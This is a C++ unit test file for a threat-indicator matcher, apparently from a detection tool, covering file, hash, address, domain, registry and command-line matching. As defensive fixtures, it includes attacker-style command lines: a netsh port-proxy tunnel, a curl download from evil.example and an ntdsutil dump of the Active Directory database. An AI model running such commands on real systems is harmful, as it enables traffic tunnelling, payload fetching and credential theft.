#include "intel/indicator_set.h"

#include <gtest/gtest.h>

namespace landwarden::intel {
namespace {

Indicator made(IndicatorKind kind, std::string_view value) {
  return {{{kind, normal_form(kind, value).value_or("?")}}, {}, {}};
}

/// What a value of a field meets, as the indicators' texts.
std::vector<std::string> met(const IndicatorSet& set, std::string_view field, std::string_view value) {
  const auto use = FieldTable::built_in().use_of(field);
  EXPECT_TRUE(use) << field;
  std::vector<IndicatorSet::TermId> terms;
  std::vector<std::uint32_t> found;
  if (use) set.test(value, *use, terms);
  set.complete(terms, found);
  std::vector<std::string> out;
  for (const std::uint32_t i : found) out.push_back(to_text(set.indicators()[i].terms));
  return out;
}
using Texts = std::vector<std::string>;
using enum IndicatorKind;

TEST(IndicatorSet, MeetsFilesByNameFolderAndHash) {
  const std::string hash(64, 'a');
  const IndicatorSet set({made(file_name, "win.exe"), made(path, R"(C:\Users\Public\Appfile\)"),
                          made(path, R"(\Windows\System32\x.log)"), made(sha256, hash),
                          made(imphash, std::string(32, 'b'))});
  EXPECT_EQ(met(set, "Image", R"(D:\tools\WIN.EXE)"), Texts{"file-name win.exe"});
  EXPECT_EQ(met(set, "TargetFilename", R"(C:\Users\Public\AppFile\registry\SYSTEM)"),
            Texts{R"(path c:\users\public\appfile\)"});
  EXPECT_TRUE(met(set, "TargetFilename", R"(C:\Users\Public\AppFiles\x)").empty());
  EXPECT_EQ(met(set, "TargetFilename", R"(C:\Windows\System32\X.log)"),
            Texts{R"(path \windows\system32\x.log)"});
  EXPECT_EQ(met(set, "NewProcessName", R"(\Device\HarddiskVolume2\Windows\System32\x.log)"),
            Texts{R"(path \windows\system32\x.log)"});
  EXPECT_EQ(met(set, "Hashes", "MD5=00,SHA256=" + std::string(64, 'A') + ",IMPHASH=" + std::string(32, 'B')),
            (Texts{"sha256 " + hash, "imphash " + std::string(32, 'b')}));
  EXPECT_TRUE(met(set, "Hashes", "MD5=" + std::string(32, 'b')).empty()) << "an MD5 is no import hash";
}

TEST(IndicatorSet, MeetsAddressesNetworksAndDomains) {
  const IndicatorSet set({made(ip, "192.0.2.1"), made(ip, "198.51.100.0/24"), made(ip, "2001:db8::/32"),
                          made(domain, "evil.example")});
  EXPECT_EQ(met(set, "IpAddress", "::ffff:192.0.2.1"), Texts{"ip 192.0.2.1"});
  EXPECT_EQ(met(set, "DestinationIp", "198.51.100.77"), Texts{"ip 198.51.100.0/24"});
  EXPECT_EQ(met(set, "ClientAddress", "2001:0DB8:0::9"), Texts{"ip 2001:db8::/32"});
  EXPECT_EQ(met(set, "QueryName", "A.b.Evil.example."), Texts{"domain evil.example"});
  EXPECT_TRUE(met(set, "QueryName", "notevil.example").empty());
  EXPECT_TRUE(met(set, "IpAddress", "-").empty());
}

TEST(IndicatorSet, MeetsRegistryKeysAndWhatIsBelow) {
  const IndicatorSet set({made(registry, R"(HKLM\SYSTEM\CurrentControlSet\Services\PortProxy\v4tov4\tcp)")});
  for (const char* value : {R"(HKLM\System\CurrentControlSet\Services\PortProxy\v4tov4\tcp\0.0.0.0/9999)",
                            R"(\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\PortProxy\v4tov4\tcp)"}) {
    EXPECT_EQ(met(set, "TargetObject", value).size(), 1U) << value;
  }
  EXPECT_TRUE(met(set, "TargetObject", R"(HKLM\System\CurrentControlSet\Services\PortProxy)").empty());
}

TEST(IndicatorSet, LooksAtTheWordsOfCommandLines) {
  const IndicatorSet set({made(ip, "192.0.2.1"), made(domain, "evil.example"), made(file_name, "win.exe"),
                          made(path, R"(C:\Windows\Temp\pro)"), made(url, "http://evil.example/a")});
  EXPECT_EQ(met(set, "CommandLine",
                R"(netsh interface portproxy add v4tov4 connectaddress=192.0.2.1 connectport=8443)"),
            Texts{"ip 192.0.2.1"});
  EXPECT_EQ(met(set, "CommandLine", R"(curl -o x "http://sub.evil.example:8080/x?y")"),
            Texts{"domain evil.example"});
  EXPECT_EQ(met(set, "CommandLine", "curl HTTP://EVIL.example/a"),
            (Texts{"domain evil.example", "url http://evil.example/a"}));
  EXPECT_EQ(met(set, "CommandLine", R"(cmd /c "c:\x\Win.exe" -p)"), Texts{"file-name win.exe"});
  EXPECT_EQ(met(set, "CommandLine", R"(ntdsutil "create full C:\Windows\Temp\pro" q)"),
            Texts{R"(path c:\windows\temp\pro)"});
  EXPECT_TRUE(met(set, "CommandLine", "ping 192.0.2.10").empty());
  EXPECT_TRUE(met(set, "CommandLine", "").empty());
}

TEST(IndicatorSet, WhatBelongsTogetherIsMetTogether) {
  const IndicatorSet set({{{{ip, "192.0.2.1"}, {file_name, "a.exe"}}, {}, {}}});
  std::vector<IndicatorSet::TermId> terms;
  std::vector<std::uint32_t> found;
  set.test("192.0.2.1", *FieldTable::built_in().use_of("DestinationIp"), terms);
  set.complete(terms, found);
  EXPECT_TRUE(found.empty());
  set.test(R"(C:\a.exe)", *FieldTable::built_in().use_of("Image"), terms);
  set.complete(terms, found);
  EXPECT_EQ(found, std::vector<std::uint32_t>{0});
}

TEST(IndicatorSet, GrowsOldByKindAndEndsWhereItsSourceSays) {
  const auto& fields = FieldTable::built_in();
  Indicator address = made(ip, "192.0.2.1"), hash = made(md5, std::string(32, 'a'));
  for (Indicator* one : {&address, &hash}) {
    one->says.seen = *parse_time("2026-01-01");
    one->says.confidence = 80;
  }
  EXPECT_EQ(worth(address, *parse_time("2026-01-01"), fields), 80U);
  EXPECT_EQ(worth(address, *parse_time("2026-04-01"), fields), 40U);  // 90 days later
  EXPECT_EQ(worth(hash, *parse_time("2036-01-01"), fields), 80U);
  hash.says.valid_until = *parse_time("2027-01-01");
  EXPECT_EQ(worth(hash, *parse_time("2036-01-01"), fields), 0U);
  EXPECT_EQ(worth(made(md5, std::string(32, 'a')), *parse_time("2036-01-01"), fields), 50U);
}

TEST(IndicatorSet, SlipsInATableOfFieldsHaveAPlace) {
  const auto line_of = [](std::string_view text) {
    const auto read = FieldTable::read(text, "f.yaml");
    return read ? 0U : read.error().place.line;
  };
  EXPECT_EQ(line_of("fields:\n  - {form: whole, kinds: [ip], names: [a]}\n"), 0U);
  EXPECT_EQ(line_of("fields:\n  - {form: half, kinds: [ip], names: [a]}\n"), 2U);
  EXPECT_EQ(line_of("fields:\n  - {form: whole, kinds: [ipp], names: [a]}\n"), 2U);
  EXPECT_EQ(line_of("fields:\n  - {form: whole, kinds: [ip], names: [a]}\n  - {form: whole, kinds: [ip], "
                    "names: [A]}\n"),
            3U);
  EXPECT_EQ(line_of("half_life_days: {ip: 0}\nfields: []\n"), 1U);
}

}  // namespace
}  // namespace landwarden::intel
